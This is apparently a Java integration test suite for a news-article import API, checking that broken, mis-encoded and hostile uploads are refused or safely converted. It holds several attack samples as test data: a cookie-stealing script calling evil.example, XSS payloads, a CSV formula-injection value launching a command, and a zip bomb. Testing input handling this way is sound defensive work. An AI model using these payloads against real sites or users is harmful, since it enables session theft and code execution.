package dev.tagbench.ingest;

import static dev.tagbench.ingest.ImportRequests.errors;
import static dev.tagbench.ingest.ImportRequests.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.tagbench.project.Project;
import dev.tagbench.support.ApiClient;
import dev.tagbench.support.TagbenchIntegrationTest;
import dev.tagbench.support.TestData;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/**
 * Broken and hostile files through the import API: each gets a clear error, stores nothing, and
 * never stops the good files of the same request or the application.
 */
@TagbenchIntegrationTest
class HostileInputIT {

    @LocalServerPort
    int port;

    @Autowired
    TestData data;

    @Autowired
    JdbcClient jdbc;

    Project project;
    ApiClient admin;
    ImportRequests requests;

    @BeforeEach
    void setUp() {
        project = data.project();
        admin = new ApiClient(port, "admin", "admin-password");
        requests = new ImportRequests(admin, jdbc, project.id());
    }

    @Test
    void empty_blank_and_binary_files_are_refused_with_reasons() {
        var random = new byte[4096];
        new Random(3).nextBytes(random);
        random[10] = 0;
        var files = new LinkedHashMap<String, byte[]>();
        files.put("empty.txt", new byte[0]);
        files.put("blank.txt", utf8(" \n\t \r\n"));
        files.put("report.pdf", utf8("%PDF-1.7\n1 0 obj\n"));
        files.put("scan.txt", new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13});
        files.put("noise.txt", random);
        files.put("nul.txt", utf8("Officials met.\u0000Then they left."));
        files.put("good.txt", utf8("The minister pledged aid on Monday.\n"));
        var result = requests.upload(files);
        assertThat(errors(result))
                .containsExactly(
                        "empty.txt: the file is empty",
                        "blank.txt: the file contains only whitespace",
                        "report.pdf: not a supported file type",
                        "scan.txt: not a text file: NUL byte at offset 8",
                        "noise.txt: not a text file: NUL byte at offset " + firstNul(random),
                        "nul.txt: not a text file: NUL byte at offset 14");
        assertThat(result.get("imported")).hasSize(1);
        assertThat(requests.articleCount()).isEqualTo(1);
    }

    @Test
    void latin1_and_utf16_without_a_byte_order_mark_are_read_correctly() {
        var french = "Le ministre a annoncé une aide de 37 millions d'euros pour l'Ukraine. Les députés ont salué "
                + "la décision, tandis que l'opposition a critiqué le calendrier choisi par le gouvernement.";
        var result = requests.upload(Map.of(
                "latin1.txt",
                french.getBytes(StandardCharsets.ISO_8859_1),
                "utf16.txt",
                "Kyiv thanked Tokyo for the generators.".getBytes(StandardCharsets.UTF_16LE)));
        assertThat(result.get("errors")).isEmpty();
        var texts = requests.articleColumn("original_text");
        assertThat(texts).containsExactlyInAnyOrder(french, "Kyiv thanked Tokyo for the generators.");
        var warnings = new LinkedHashMap<String, List<String>>();
        result.get("imported")
                .forEach(a -> warnings.put(
                        a.get("file").asString(),
                        a.get("warnings").valueStream().map(JsonNode::asString).toList()));
        assertThat(warnings)
                .containsEntry(
                        "latin1.txt",
                        List.of("not valid UTF-8 (byte 0xE9 at offset 20): read as windows-1252 (Western European);"
                                + " if accented letters look wrong, save the file as UTF-8 and import it again"))
                .containsEntry(
                        "utf16.txt",
                        List.of("not UTF-8: read as UTF-16LE, recognised by its zero bytes as the file has no"
                                + " byte-order mark; if the text looks wrong, save the file as UTF-8 and import it"
                                + " again"));
    }

    @Test
    void a_refused_file_read_in_an_assumed_encoding_names_it_next_to_the_reason() {
        var csv = "titre;texte\nL\u2019aide annonc\u00e9e;Le ministre a annonc\u00e9 une aide de 37 millions"
                + " d\u2019euros pour l\u2019Ukraine, et les d\u00e9put\u00e9s ont salu\u00e9 la d\u00e9cision.\n";
        var result = requests.upload(Map.of(
                "semicolons.csv",
                csv.getBytes(Charset.forName("windows-1252")),
                "good.txt",
                utf8("The minister pledged aid on Monday.\n")));
        assertThat(result.get("errors")).singleElement().satisfies(error -> {
            assertThat(error.get("file").asString()).isEqualTo("semicolons.csv");
            assertThat(error.get("message").asString()).startsWith("the CSV file has no 'text' column");
            assertThat(error.get("warnings").get(0).asString()).contains("read as windows-1252");
        });
        assertThat(result.get("imported"))
                .singleElement()
                .satisfies(imported -> assertThat(imported.get("warnings")).isEmpty());
        assertThat(requests.articleCount()).isEqualTo(1);
    }

    @Test
    void a_single_line_of_almost_two_million_characters_is_imported() {
        var line = new StringBuilder();
        var n = 0;
        while (line.length() < 1_900_000) {
            line.append("Report ")
                    .append(n++)
                    .append(" says troops moved ")
                    .append("far ".repeat(200))
                    .append("today. ");
        }
        var result = requests.upload(Map.of("one-line.txt", utf8(line.toString())));
        assertThat(result.get("errors")).isEmpty();
        assertThat(result.get("imported").get(0).get("sentences").asInt()).isEqualTo(n);
    }

    @Test
    void hostile_html_comes_in_as_plain_text_only() {
        var html = """
                <!doctype html><html><head><title>Markup attack on the newsroom today</title>
                <script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
                <body><nav>Home | World</nav><article>
                <p>Officials said <img src=x onerror="alert(1)">the port was hit.</p>
                <p>Read <a href="javascript:alert(2)">the statement</a> here.</p>
                <svg><script>alert(3)</script><text>svg text</text></svg>
                <!-- a comment with <script>alert(4)</script> -->
                </article></body></html>""";
        var result = requests.upload(Map.of("page.html", utf8(html)));
        assertThat(result.get("errors")).isEmpty();
        var text = requests.articleColumn("original_text").getFirst();
        assertThat(text).contains("Officials said the port was hit.", "Read the statement here.");
        assertThat(text).doesNotContain("<", "alert", "onerror", "javascript", "evil.example", "Home | World");
    }

    @Test
    void broken_csv_rows_are_reported_and_the_good_rows_imported() {
        var csv = "title,text,date\n"
                + "Good one here now,\"The minister pledged aid.\nIt arrived on Monday.\",2024-01-07\n"
                + "Ragged row,Too,many,cells\n"
                + "Formula row,=cmd|' /C calc'!A0 was typed by a reader.,2024-01-08\n";
        var result = requests.upload(Map.of("table.csv", utf8(csv), "no-text.csv", utf8("title,body\nA,B\n")));
        assertThat(result.get("imported")).hasSize(2);
        assertThat(errors(result))
                .anySatisfy(e -> assertThat(e).startsWith("table.csv: row 2"))
                .anySatisfy(e -> assertThat(e)
                        .isEqualTo("no-text.csv: the CSV file has no 'text' column; its columns are: title, body"));
        var texts = requests.articleColumn("original_text");
        assertThat(texts)
                .containsExactly(
                        "The minister pledged aid.\nIt arrived on Monday.",
                        "=cmd|' /C calc'!A0 was typed by a reader.");
    }

    @Test
    void a_malformed_jsonl_line_is_reported_by_number_and_the_others_imported() {
        var jsonl = """
                {"text": "The first article pledged aid.", "title": "First of three articles", "source": "AP"}
                {"text": "The second article is broken
                {"text": "The third article reports an attack.", "feed": {"id": 7}}
                """;
        var result = requests.upload(Map.of("feed.jsonl", utf8(jsonl)));
        assertThat(result.get("imported")).hasSize(2);
        assertThat(errors(result)).singleElement().satisfies(e -> assertThat(e).startsWith("feed.jsonl: line 2"));
        var metadata = requests.articleColumn("metadata::text");
        assertThat(metadata.get(1)).contains("\"feed\"").contains("{\\\"id\\\":7}");
    }

    @Test
    void after_a_burst_of_hostile_uploads_the_application_still_answers() throws Exception {
        var bomb = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bomb)) {
            zip.putNextEntry(new ZipEntry("__MACOSX/._hidden"));
            zip.write(new byte[60_000_000]);
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("after.txt"));
            zip.write(utf8("Never reached."));
            zip.closeEntry();
        }
        var random = new byte[100_000];
        new Random(9).nextBytes(random);
        var result = requests.upload(Map.of(
                "bomb.zip",
                bomb.toByteArray(),
                "noise.bin",
                random,
                "good.txt",
                utf8("The minister pledged aid on Monday.\n")));
        assertThat(errors(result))
                .contains("bomb.zip: an entry is larger than the limit, so the rest of the archive was not read");
        assertThat(result.get("imported")).hasSize(1);
        assertThat(admin.get("/api/v1/projects").status()).isEqualTo(200);
        var broken = admin.post("/api/v1/projects", "{\"name\": \"x\", \"labels\": [null]}");
        assertThat(broken.status()).isEqualTo(400);
        assertThat(broken.contentType()).startsWith("application/problem+json");
    }

    private static int firstNul(byte[] bytes) {
        for (var i = 0; i < bytes.length; i++) {
            if (bytes[i] == 0) {
                return i;
            }
        }
        return -1;
    }
}
